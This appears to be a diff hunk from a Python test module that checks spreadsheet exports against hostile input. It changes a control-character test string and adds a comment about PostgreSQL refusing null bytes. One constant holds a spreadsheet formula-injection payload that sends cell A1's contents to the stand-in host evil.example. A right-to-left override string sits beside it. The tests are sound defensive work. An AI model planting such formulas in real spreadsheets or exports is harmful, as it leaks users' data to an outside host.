@@ -16,7 +16,8 @@ from tests.factories import EnterpriseFactory
 from tests.text.walk import project_modules
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
-CONTROL = "东城\x1b机械\x00厂"  # openpyxl refuses both: the export answered 500 for everyone who could see it
+CONTROL = "东城\x1b机械\x08厂"  # openpyxl refuses both: the export answered 500 for everyone who could see it
+# (U+0000 cannot be stored at all on PostgreSQL; input refuses it, see test_refusal_pages.)
 OVERRIDE = "东城\u202e厂械机"
 
 
